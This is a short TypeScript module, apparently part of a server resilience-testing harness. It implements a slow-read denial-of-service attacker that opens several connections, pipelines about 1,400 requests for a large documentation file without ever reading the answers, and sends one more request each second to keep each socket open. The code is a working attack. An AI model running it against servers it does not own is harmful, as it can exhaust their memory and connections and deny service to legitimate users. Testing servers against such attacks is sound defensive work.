/** Pipelines requests for a large answer and never reads. Every second it sends one more request. */

import { type Attacker, connections, pipelined } from './attacker.ts'

export interface UnreadOptions {
  readonly connections?: number
  readonly path?: string
  /** 1,400 requests for a documentation file fit one read of 64 KiB. */
  readonly requests?: number
}

export const unreadAnswers = (options: UnreadOptions = {}): Attacker => {
  const { connections: count = 3, path = '/docs/swagger-ui-bundle.js', requests = 1_400 } = options
  const name = `${count} connections pipeline ${requests} of GET ${path} and never read`
  return {
    name,
    start: async (url) =>
      connections(url, count, (socket) => {
        socket.pause()
        socket.write(pipelined(path, requests))
        // A paused socket learns only from a write that it was closed.
        const more = setInterval(() => socket.write(pipelined(path, 1)), 1_000)
        socket.on('close', () => clearInterval(more))
      }),
  }
}
